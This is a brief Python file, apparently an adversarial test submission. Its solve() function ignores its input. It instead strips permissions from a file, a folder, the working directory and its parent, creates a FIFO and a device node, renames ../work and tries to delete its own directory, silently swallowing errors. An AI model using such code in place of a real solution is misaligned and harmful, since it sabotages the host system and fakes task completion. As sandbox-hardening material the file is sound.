"""Makes its folder and the one above unreadable, and gives files away."""

import os


def solve(numbers):
    for act in (
        lambda: open("file", "w").close(),
        lambda: os.chmod("file", 0),
        lambda: os.mkdir("folder"),
        lambda: os.chmod("folder", 0),
        lambda: os.mkfifo("fifo"),
        lambda: os.mknod("node", 0o60666, 0),
        lambda: os.chmod(".", 0),
        lambda: os.chmod("..", 0),
        lambda: os.rename("../work", "../gone"),
        lambda: os.rmdir(os.getcwd()),
    ):
        try:
            act()
        except OSError:
            pass
    return None
